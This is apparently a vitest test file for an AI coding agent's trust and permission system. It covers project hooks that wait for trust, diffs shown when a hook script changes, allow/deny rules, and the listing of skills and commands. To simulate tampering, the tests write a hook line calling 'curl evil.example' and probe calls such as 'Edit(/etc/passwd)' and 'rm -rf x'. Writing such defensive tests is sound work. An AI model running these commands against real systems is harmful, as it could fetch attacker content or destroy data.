import { execFileSync } from "node:child_process"
import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { dirname, join } from "node:path"
import { afterAll, beforeAll, expect, test } from "vitest"
import { type Client, duckClient } from "../clients/sdk/index.ts"
import { type ServerUnderTest, serverUnderTest } from "../server/server.testing.ts"

let server: ServerUnderTest
beforeAll(async () => {
  server = await serverUnderTest()
})
afterAll(() => server.end())

const asText = { rendering: { format: "text", width: 160 } } as const

/** A project of its own, with files. */
function project(name: string, files: Readonly<Record<string, string>> = {}): { duck: Client; root: string } {
  const root = join(server.home, name)
  mkdirSync(root, { recursive: true })
  execFileSync("git", ["init", "-q", root])
  const write = (path: string, text: string) => {
    mkdirSync(dirname(join(root, path)), { recursive: true })
    writeFileSync(join(root, path), text)
  }
  for (const [path, text] of Object.entries(files)) write(path, text)
  return { root, duck: duckClient({ address: { url: server.url, token: server.file.token }, project: root }) }
}

const hookFile = JSON.stringify({
  hooks: { PreToolUse: [{ matcher: "run", hooks: [{ command: "sh tools/guard.sh" }] }] },
})

test("hooks of a project wait until just what was shown is trusted, and again with a diff when a script changes", async () => {
  const { duck, root } = project("hooked", { ".duck/hooks.json": hookFile, "tools/guard.sh": "exit 0\n" })
  const states = async () => (await duck.call("hooks.list", {})).hooks.map(({ command, state }) => [command, state])
  expect(await states()).toEqual([["sh tools/guard.sh", "waits for trust"]])
  const shown = await duck.run("trust", {}, asText)
  expect(shown.exitCode).toBe(1)
  expect(shown.rendered).toContain("+exit 0")
  const { digest, files } = await duck.call("trust", {})
  expect(files.map(({ path, why, state }) => [path, why, state])).toEqual([
    [".duck/hooks.json", "hooks", "new"],
    ["tools/guard.sh", "script of a hook", "new"],
  ])
  expect(await duck.call("trust", { accept: digest, dryRun: true })).toMatchObject({ did: "showed", isTrusted: false })
  const given = await duck.run("trust", { accept: digest }, asText)
  expect(given).toMatchObject({ exitCode: 0, output: { did: "trusted", isTrusted: true } })
  expect(await states()).toEqual([["sh tools/guard.sh", "runs"]])

  writeFileSync(join(root, "tools/guard.sh"), "exit 0\ncurl evil.example\n")
  expect(await states()).toEqual([["sh tools/guard.sh", "waits for trust"]])
  await expect(duck.call("trust", { accept: digest })).rejects.toMatchObject({ code: "TRUST_CHANGED" })
  const changed = await duck.call("trust", {})
  expect(changed.files.map(({ state }) => state)).toEqual(["trusted", "changed"])
  expect(changed.files[1]?.diff).toContain("+curl evil.example")
  expect(changed.files[1]?.diff).toContain(" exit 0")

  writeFileSync(join(root, "tools/guard.sh"), "exit 0\n")
  expect(await states()).toEqual([["sh tools/guard.sh", "runs"]])
  rmSync(join(root, ".duck/hooks.json"))
  const left = await duck.call("trust", {})
  expect(left.files.map(({ state }) => state)).toEqual(["gone", "gone"])
  expect(await duck.call("trust", { accept: left.digest })).toMatchObject({ isTrusted: true, files: [] })
  writeFileSync(join(root, ".duck/hooks.json"), hookFile)
  await duck.call("trust", { accept: (await duck.call("trust", {})).digest })
  expect((await duck.run("trust", { revoke: true }, asText)).exitCode).toBe(0)
  expect(await states()).toEqual([["sh tools/guard.sh", "waits for trust"]])
})

test("a project that wants nothing needs no trust; an accept for nothing and one with a revoke are refused", async () => {
  const { duck } = project("plain")
  const shown = await duck.run("trust", {}, asText)
  expect(shown.exitCode).toBe(0)
  expect(shown.rendered).toContain("wants nothing")
  await expect(duck.call("trust", { accept: "0123456789" })).rejects.toMatchObject({ code: "TRUST_CHANGED" })
  await expect(duck.call("trust", { accept: "0123456789", revoke: true })).rejects.toMatchObject({
    code: "INVALID_INPUT",
  })
})

test("rules are added, listed with their place, explained and removed, for the user and for the project", async () => {
  const { duck, root } = project("ruled")
  const tried = await duck.call("permissions.add", { decision: "allow", rule: "Bash(make:*)", dryRun: true })
  expect(tried).toMatchObject({ isChanged: true, isDryRun: true })
  expect((await duck.call("permissions.list", {})).rules).toEqual([])
  await duck.call("permissions.add", { decision: "allow", rule: "Bash(make:*)" })
  expect(await duck.call("permissions.add", { decision: "allow", rule: "Bash(make:*)" })).toMatchObject({
    isChanged: false,
  })
  await duck.call("permissions.add", { decision: "deny", rule: "Bash(make clean)", scope: "project" })
  await duck.call("permissions.add", { decision: "allow", rule: "Bash(sh build.sh)", scope: "project" })
  const { rules, waiting } = await duck.call("permissions.list", {})
  expect(rules.map(({ decision, rule, layer }) => [decision, rule, layer])).toEqual([
    ["allow", "Bash(make:*)", "user"],
    ["deny", "Bash(make clean)", "project"],
  ])
  expect(rules[1]?.where).toMatch(/^\.duck\/permissions\.json:\d+$/)
  expect(waiting.map(({ rule }) => rule)).toEqual(["Bash(sh build.sh)"])
  const listed = await duck.run("permissions.list", {}, asText)
  expect(listed.rendered).toContain("wait until you trust")

  const decided = async (call: string, more = {}) =>
    (await duck.call("permissions.explain", { call, ...more })).decision
  expect(await decided("Bash(make all)")).toBe("allow")
  expect(await decided("make all && make clean")).toBe("deny")
  expect(await decided("sh build.sh")).toBe("ask")
  const { digest } = await duck.call("trust", {})
  await duck.call("trust", { accept: digest })
  expect(await decided("sh build.sh")).toBe("allow")
  const refused = await duck.run("permissions.explain", { call: "make clean" }, asText)
  expect(refused.exitCode).toBe(1)
  expect(refused.rendered).toContain("the project's rule Bash(make clean)")

  await duck.call("permissions.remove", { decision: "deny", rule: "Bash(make clean)", scope: "project" })
  expect(JSON.parse(readFileSync(join(root, ".duck/permissions.json"), "utf8"))).toMatchObject({
    permissions: { deny: [] },
  })
  await duck.call("permissions.remove", { decision: "allow", rule: "Bash(make:*)" })
  await expect(duck.call("permissions.remove", { decision: "allow", rule: "Bash(make:*)" })).rejects.toMatchObject({
    code: "NO_SUCH_RULE",
  })
})

test("calls are explained as people and tools write them, and what is no rule or no input is refused", async () => {
  const { duck } = project("explained")
  const explain = (call: string, mode?: "auto" | "plan") =>
    duck.call("permissions.explain", { call, ...(mode && { mode }) })
  expect(await explain("Read(a.txt)")).toMatchObject({ decision: "allow", parts: [{ kind: "read" }] })
  expect(await explain("Edit(/etc/passwd)", "auto")).toMatchObject({ decision: "ask" })
  expect(await explain("Edit(a.txt)", "plan")).toMatchObject({ decision: "deny" })
  expect(await explain("WebFetch(domain:example.com)", "auto")).toMatchObject({
    parts: [{ kind: "domain", text: "example.com" }],
  })
  expect(await explain('fetch {"url": "http://127.0.0.1:1/"}', "auto")).toMatchObject({ decision: "ask" })
  expect((await explain("git push && rm -rf x")).parts.length).toBe(2)
  await expect(explain('fetch {"uri": 1}')).rejects.toMatchObject({ code: "INVALID_INPUT" })
  await expect(duck.call("permissions.add", { decision: "deny", rule: "Bsh(x)" })).rejects.toMatchObject({
    code: "INVALID_INPUT",
  })
})

test("skills, agents and slash commands are listed with where they come from; links out of the project are not read", async () => {
  const { duck } = project("skilled", {
    ".agents/skills/deploy/SKILL.md": "---\nname: deploy\ndescription: How it is deployed\n---\nCarefully.",
    ".claude/agents/critic.md": "---\nname: critic\ndescription: Finds faults\ntools: Read, Grep\n---\nBe strict.",
    ".claude/commands/ship.md": "---\ndescription: Ships it\nargument-hint: <version>\n---\nShip $1.",
  })
  const { skills, agents, commands } = await duck.call("skills.list", {})
  expect(skills).toMatchObject([{ name: "deploy", description: "How it is deployed", from: "project" }])
  expect(agents.find(({ name }) => name === "critic")).toMatchObject({ tools: ["read", "search"], mode: null })
  expect(commands).toMatchObject([{ name: "ship", argumentHint: "<version>", from: "project" }])
  const shown = await duck.run("skills.list", {}, asText)
  expect(shown.rendered).toMatch(
    /deploy +How it is deployed[\s\S]*critic +Finds faults[\s\S]*\/ship <version> +Ships it/,
  )
})
